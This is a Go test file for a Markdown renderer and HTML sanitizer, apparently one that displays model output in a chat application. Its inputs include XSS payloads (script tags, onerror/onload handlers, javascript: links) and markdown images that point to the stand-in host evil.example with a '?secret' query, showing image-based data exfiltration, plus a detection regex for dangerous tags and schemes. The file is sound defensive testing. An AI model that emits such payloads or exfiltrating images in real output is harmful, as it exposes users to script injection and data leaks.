package markdown

import (
	"regexp"
	"strings"
	"testing"
	"time"
)

const mine = "/api/conversations/0123456789abcdef/pictures/p1"

func pictures(address, _ string) (string, bool) { return mine, address == "gs://mine/a.png" }

func TestBlocks(t *testing.T) {
	for name, tc := range map[string]struct{ reason, md, want string }{
		"Paragraphs":   {"Each block is a string of its own.", "a\n\n**b**", "<p>a</p>|<p><strong>b</strong></p>"},
		"Heading":      {"The page has h1 and h2.", "# a", "<h3>a</h3>"},
		"Table":        {"With alignment, without style.", "| a | b |\n|---|--:|\n| 1 | 2 |", `<table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table>`},
		"Code":         {"Code is text.", "```python\nprint('<b>')\n```", "<pre><code class=\"language-python\">print(&#39;&lt;b&gt;&#39;)\n</code></pre>"},
		"RawHTML":      {"It is shown as it was written.", "a <script>alert(1)</script> b", "<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>"},
		"HTMLBlock":    {"So is a block of it.", "<div onclick=x>\n<img src=x onerror=alert(1)>\n</div>", "<p>&lt;div onclick=x&gt;\n&lt;img src=x onerror=alert(1)&gt;\n&lt;/div&gt;</p>"},
		"ForeignImage": {"The browser would load it by itself: that carries data out.", "![chart](https://evil.example/a.png?secret)", "<p>[picture not shown: chart]</p>"},
		"OwnImage":     {"The server's own path takes its place.", "![chart](gs://mine/a.png \"title\")", `<p><img src="` + mine + `" alt="chart"></p>`},
		"LinkToChart":  {"Models forget the exclamation mark.", "[chart](gs://mine/a.png)", `<p><img src="` + mine + `" alt="chart"></p>`},
		"ForgedPath":   {"A path of this server that a model wrote is no picture of the caller's.", "![x](" + mine + ")", "<p>[picture not shown: x]</p>"},
		"ImageInLink":  {"No picture is loaded through a link either.", "[![x](https://evil.example/a.png)](https://evil.example)", `<p><a href="https://evil.example" rel="nofollow noreferrer noopener" target="_blank">[picture not shown: x]</a></p>`},
		"Link":         {"A person may follow a link, and it learns nothing of where they came from.", "[a](https://example.org)", `<p><a href="https://example.org" rel="nofollow noreferrer noopener" target="_blank">a</a></p>`},
		"ScriptLink":   {"A link runs nothing.", "[a](javascript:alert(1))", "<p>a</p>"},
		"DataLink":     {"", "[a](data:text/html;base64,AAAA)", "<p>a</p>"},
		"RelativeLink": {"A path would lead into this server.", "[a](/api/state)", "<p>a</p>"},
		"BareLink":     {"", "see https://example.org/x", `<p>see <a href="https://example.org/x" rel="nofollow noreferrer noopener" target="_blank">https://example.org/x</a></p>`},
		"Tasks":        {"", "- [x] a\n- [ ] b", "<ul>\n<li>\u2611 a</li>\n<li>\u2610 b</li>\n</ul>"},
		"Entity":       {"", "&lt;script&gt; & &copy;", "<p>&lt;script&gt; &amp; ©</p>"},
		"BadUTF8":      {"", "a\xffb", "<p>a\uFFFDb</p>"},
		"Reference":    {"A picture by reference is one, too.", "![x][r]\n\n[r]: https://evil.example/a.png", "<p>[picture not shown: x]</p>"},
		"Empty":        {"", " \n ", ""},
	} {
		t.Run(name, func(t *testing.T) {
			got := strings.Join(Blocks(tc.md, pictures), "|")
			if squeeze(got) != squeeze(tc.want) {
				t.Errorf("got\n%s\nwant\n%s\n%s", got, tc.want, tc.reason)
			}
		})
	}
}

var space = regexp.MustCompile(`>\s+<`)

func squeeze(s string) string { return space.ReplaceAllString(s, "><") }

// What a person wrote never takes long, and neither does what nobody would write.
func TestNesting(t *testing.T) {
	for name, s := range map[string]string{
		"Quotes": strings.Repeat(">", 100_000), "Lists": strings.Repeat("- ", 50_000), "Brackets": strings.Repeat("[", 100_000), "Images": strings.Repeat("![", 50_000),
		"Stars": strings.Repeat("*a ", 60_000), "Ticks": strings.Repeat("`", 100_000), "Pipes": "|" + strings.Repeat("a|", 2000) + "\n|" + strings.Repeat("-|", 2000) + "\n" + strings.Repeat("|"+strings.Repeat("b|", 20)+"\n", 500),
		"HTML": strings.Repeat("<a ", 60_000), "Underscores": strings.Repeat("_a_", 60_000), "QuoteLines": strings.Repeat(strings.Repeat("> ", 60)+"a\n", 1500), "Refs": strings.Repeat("[a]: b\n", 20_000) + strings.Repeat("[a] ", 20_000),
	} {
		t.Run(name, func(t *testing.T) {
			begun := time.Now()
			Blocks(s, pictures)
			t.Logf("%s for %d bytes", time.Since(begun), len(s))
		})
	}
}

// No Markdown makes HTML that runs, or loads, anything.
func FuzzBlocks(f *testing.F) {
	for _, s := range []string{
		"a <script>x</script>", "![a](https://e/x.png)", "[a](javascript:x)", "<img src=x onerror=y>", "![a](gs://mine/a.png)", "|a|\n|-|\n|<svg onload=x>|",
		"[a](<javascript:x>)", "<https://a/\"onclick=x>", "```\"><script>\n```", "[x]: javascript:a\n[x]", "![](data:image/svg+xml,<svg onload=x>)", "&#106;avascript:x", "# <b>\n> - `a`\n1. ![x][y]\n\n[y]: //e",
	} {
		f.Add(s)
	}
	bad := regexp.MustCompile(`(?i)<(script|style|iframe|object|embed|svg|form|input|link|meta|base|video|audio)|<[a-z0-9]+[^>]*\s(on[a-z]+|style|srcset|id)\s*=|(href|src)="\s*(javascript|data|vbscript|file):|src="[^/"]`)
	img := regexp.MustCompile(`src="([^"]*)"`)
	f.Fuzz(func(t *testing.T, s string) {
		out := strings.Join(Blocks(s, pictures), "\n")
		if m := bad.FindString(out); m != "" {
			t.Fatalf("%q becomes %q: %q", s, out, m)
		}
		for _, m := range img.FindAllStringSubmatch(out, -1) {
			if m[1] != mine {
				t.Fatalf("%q loads %q", s, m[1])
			}
		}
	})
}

// The policy alone lets no other picture through either: it is the second wall.
func TestPolicy(t *testing.T) {
	for in, want := range map[string]string{
		`<img src="https://evil.example/a.png" alt="x">`:        "",
		`<img src="/api/state">`:                                "",
		`<img src="` + mine + `" alt="x" onload="y">`:           `<img src="` + mine + `" alt="x">`,
		`<p style="background:url(https://evil.example)">a</p>`: "<p>a</p>",
		`<script>x</script><a href="javascript:x">a</a><svg>b`:  "ab",
	} {
		if got := strings.ReplaceAll(policy.Sanitize(in), ` alt="x"`+`/`, ``); !strings.EqualFold(got, want) && !(want == "" && !strings.Contains(got, "src")) {
			t.Errorf("%s: got %q, want %q", in, got, want)
		}
	}
}
